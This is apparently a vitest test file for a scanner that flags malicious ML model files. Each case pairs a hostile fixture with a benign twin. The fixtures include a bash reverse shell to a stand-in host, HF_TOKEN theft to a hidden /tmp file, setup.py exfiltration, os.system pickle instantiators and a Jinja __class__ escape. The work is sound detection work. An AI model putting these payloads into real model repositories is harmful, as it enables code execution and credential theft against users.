import { describe, expect, it } from 'vitest';
import type { FileFacts } from '../../src/formats/facts.ts';
import { SCAN_RULES } from '../../src/scan/rules.ts';
import { runRules } from '../../src/scan/run-rules.ts';
import { factsOfBytes } from '../support/facts-of.ts';
import * as p from '../support/pickle-assembler.ts';

type Files = Readonly<Record<string, string | Uint8Array>>;

/** Rules that report one of the files as high or critical. */
async function blockedBy(files: Files): Promise<readonly string[]> {
  const facts: FileFacts[] = Object.entries(files).map(([name, content]) => factsOfBytes(name, Buffer.from(content)));
  const { findings, failures } = await runRules(SCAN_RULES, facts, new AbortController().signal);
  expect(failures).toEqual([]);
  return [
    ...new Set(
      findings.filter(({ severity }) => severity === 'high' || severity === 'critical').map(({ rule }) => rule),
    ),
  ];
}

const checkpoint = (instantiator: string): Uint8Array =>
  p.pickle(
    p.proto(2),
    p.emptyDict,
    p.short('hyper_parameters'),
    p.emptyDict,
    p.short('_instantiator'),
    p.short(instantiator),
    Buffer.from('ss'),
    p.stop,
  );

const dataSet = (script: string): string =>
  `path: .\ntrain: images\nval: images\nnames: {0: x}\ndownload: |\n  ${script}\n`;
const spacy = (body: string): Files => ({
  'config.cfg': '[nlp]\nlang = "en"\n\n[initialize]\nbefore_init = {"@callbacks":"boot.v1"}\n',
  'functions.py': `import os, spacy\n\n@spacy.registry.callbacks("boot.v1")\ndef boot():\n    def run(nlp):\n        ${body}\n        return nlp\n    return run\n`,
});
const model = (body: string): Files => ({
  'config.json': '{"auto_map": {"AutoModel": "modeling_x.X"}}',
  'modeling_x.py': `import os, re\nfrom transformers import PreTrainedModel\n\n\nclass X(PreTrainedModel):\n    def __init__(self, config):\n        super().__init__(config)\n        ${body}\n`,
});
const setup = (data: string): Files => ({
  'setup.py': `import setuptools, urllib.request\nurllib.request.urlopen("http://a.invalid/c", data=${data})\nsetuptools.setup(name="x")\n`,
});

/** What a loader runs in passing, the rule that tells it, and the same in a form that does no harm. */
const PAIRS: readonly (readonly [what: string, rule: string, hostile: Files, honest: Files])[] = [
  [
    'Python by which a data set of Ultralytics is fetched',
    'hydra-target',
    { 'data.yaml': dataSet('import os; os.environ["HF_TOKEN"]') },
    { 'data.yaml': dataSet('from ultralytics.utils.downloads import download; download(["https://a.invalid/x.zip"])') },
  ],
  [
    'a command by which it is fetched',
    'hydra-target',
    { 'data.yaml': 'train: a\nnames: [x]\ndownload: bash -c "bash -i >& /dev/tcp/a.invalid/1 0>&1"\n' },
    { 'data.yaml': 'train: a\nnames: [x]\ndownload: https://a.invalid/x.zip\n' },
  ],
  [
    'what pyannote.audio calls as a pipeline',
    'hydra-target',
    { 'config.yaml': 'pipeline:\n  name: subprocess.Popen\n  params:\n    args: [id]\n' },
    { 'config.yaml': 'pipeline:\n  name: pyannote.audio.pipelines.SpeakerDiarization\n  params:\n    clustering: x\n' },
  ],
  [
    'what Lightning calls in place of a model',
    'pickle-structure',
    { 'm.ckpt': checkpoint('os.system') },
    { 'm.ckpt': checkpoint('pytorch_lightning.cli.instantiate_module') },
  ],
  [
    'a function that spaCy is told of and that starts a program',
    'hydra-target',
    spacy('os.system("id")'),
    spacy('print("ready")'),
  ],
  [
    'text of a block that becomes a name',
    'template-injection',
    { 'chat_template.jinja': '{% set k %}__class__{% endset %}{{ messages[k|trim] }}' },
    { 'chat_template.jinja': '{% set k %}You are helpful.{% endset %}{{ k|trim }}{{ messages[0].content }}' },
  ],
  [
    'a program made of a text',
    'python-code',
    model('type(f)(compile(config.x, "m", "exec"), {})()'),
    model('re.compile("a")'),
  ],
  [
    'a hidden file among temporary ones',
    'python-code',
    model('open("/tmp/.x", "w").write(os.environ.get("HF_TOKEN", ""))'),
    model('open("/tmp/x.log", "a").write("made")'),
  ],
  ['a file that an installation sends away', 'python-code', setup('open(p, "rb").read()'), setup('b"version=1"')],
];

describe('what runs in passing', () => {
  it.each(PAIRS)('blocks %s, and its harmless twin not', async (_, rule, hostile, honest) => {
    expect(await blockedBy(hostile)).toContain(rule);
    expect(await blockedBy(honest)).not.toContain(rule);
  });

  it('takes names that MkDocs draws with, and operators of openvino_tokenizers, for what they are', async () => {
    const emoji = (name: string): Files => ({ 'mkdocs.yml': `emoji_index: !!python/name:${name}\n` });
    expect(await blockedBy(emoji('material.extensions.emoji.twemoji'))).toEqual([]);
    expect(await blockedBy(emoji('my_extensions.emoji.twemoji'))).toEqual(['yaml-python-tag']);
    const graph = (type: string): Files => ({
      'openvino_tokenizer.xml': `<?xml version="1.0"?>\n<net name="m" version="11">\n\t<layers>\n\t\t<layer id="0" name="n" type="${type}" version="extension">\n\t\t</layer>\n\t</layers>\n\t<edges>\n\t</edges>\n</net>\n`,
    });
    expect(await blockedBy(graph('StringTensorUnpack'))).not.toContain('openvino-extension');
    expect(await blockedBy(graph('Unheard'))).toContain('openvino-extension');
  });

  it('finds thousands of places of one rule in a file at one go', async () => {
    const text = Buffer.from('FROM ../../../../a\n'.repeat(50_000));
    const facts = [factsOfBytes('Modelfile', text)];
    const { user, system } = process.cpuUsage();
    await runRules(SCAN_RULES, facts, new AbortController().signal);
    const spent = process.cpuUsage({ user, system });
    expect((spent.user + spent.system) / 1e6).toBeLessThan(10);
  });

  it('gives up on a text that grows with each line of a file, and says so', () => {
    const { user, system } = process.cpuUsage();
    const { limits } = factsOfBytes('a.py', Buffer.from('a = a + "x"\n'.repeat(100_000)));
    const spent = process.cpuUsage({ user, system });
    expect(limits.map(({ limit }) => limit)).toContain('python.work');
    expect((spent.user + spent.system) / 1e6).toBeLessThan(15);
  });
});
